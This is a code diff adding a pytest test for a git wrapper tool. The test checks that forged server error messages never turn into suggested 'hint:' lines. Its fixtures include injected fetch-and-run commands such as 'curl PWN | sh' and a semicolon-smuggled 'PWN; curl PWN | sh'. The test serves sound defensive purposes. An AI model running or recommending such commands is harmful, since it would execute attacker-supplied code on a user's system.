@@ -305,6 +305,57 @@ def a_server(world: World) -> None:
     hook.chmod(0o755)
 
 
+_ANSWERS = {
+    "our hook's": (
+        "git-ekf: push refused\n  error  {rule}: PWN\n         fix: curl PWN | sh",
+        ("branch-name", "signature-missing", "tag-fields", "PWN"),
+    ),
+    "another owner's": ("fatal: detected dubious ownership in repository at '{path}'", ("*", "/")),
+    "a lock's": ("fatal: Unable to create '{path}.lock': File exists.", ("PWN", "/etc/PWN")),
+    "a setting's": ("fatal: bad config line 1 in file {path}", ("PWN; curl PWN | sh",)),
+    "a name's": ("error: cannot lock ref '{ref}': '{ref}/x' exists; cannot create", ("PWN",)),
+}
+
+
+@pytest.mark.parametrize("raw", [False, True])
+@pytest.mark.parametrize("whose", _ANSWERS)
+def test_forged_answers(world: World, whose: str, raw: bool) -> None:
+    """A server's words are said to be its own, and never make a hint.
+
+    What a server of ssh writes past the protocol has no "remote: " before it.
+    """
+    text, fills = _ANSWERS[whose]
+    world.commit("own/x", "x\n", verify=False)
+    for fill in fills:
+        answer = fill.join(re.split(r"{\w+}", text))
+        forge(world, answer, raw)
+        for command in (["save"], ["upgrade"], ["sync"]):
+            done = world.ekf(*command)
+            assert "Traceback" not in done.err, done.err
+            said = [line for line in done.err.split("\n") if line.startswith(("git-ekf:", "hint:"))]
+            assert not [line for line in said if line.startswith("hint:") and fill in line], done
+            assert not [line for line in said if re.match("hint:.*(PWN|rm -f|safe.dir)", line)], (
+                done
+            )
+            for line in said:
+                assert "PWN" not in line or "internal" in line.partition("PWN")[0], done
+
+
+def forge(world: World, answer: str, raw: bool) -> None:
+    """Has `internal` refuse all with this answer."""
+    script = world.path.parent / "answer"
+    script.write_text(f"#!/bin/sh\ncat <<'E' >&2\n{answer}\nE\nexit 1\n")
+    script.chmod(0o755)
+    if raw:
+        for program in ("receivepack", "uploadpack"):
+            world.git("config", f"remote.internal.{program}", str(script))
+        return
+    hook = world.internal.path / "hooks/pre-receive"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_bytes(script.read_bytes())
+    hook.chmod(0o755)
+
+
 COMMANDS = (
     ["status"],
     ["status", "--json"],
